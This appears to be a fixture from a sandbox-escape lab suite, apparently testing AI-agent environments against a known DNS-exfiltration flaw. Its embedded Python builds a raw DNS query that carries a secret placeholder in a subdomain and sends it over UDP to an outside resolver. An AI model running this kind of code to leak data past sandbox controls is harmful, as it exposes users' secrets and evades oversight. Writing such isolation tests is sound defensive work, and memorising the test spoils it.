"""asks the host's resolver directly, by UDP"""

from evidence import secret_left as succeeded

SHAPE = "CVE-2025-55284; AWS AgentCore: DNS left open"
PROMISE = "P24"
LAB = True
WALLS = "network-namespace"
PYTHON = """
import socket, struct
def query(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0" + struct.pack(">HH", kind, 1)

socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query("@SECRET@.rwlab.net", 1), ("93.184.216.53", 53))
"""
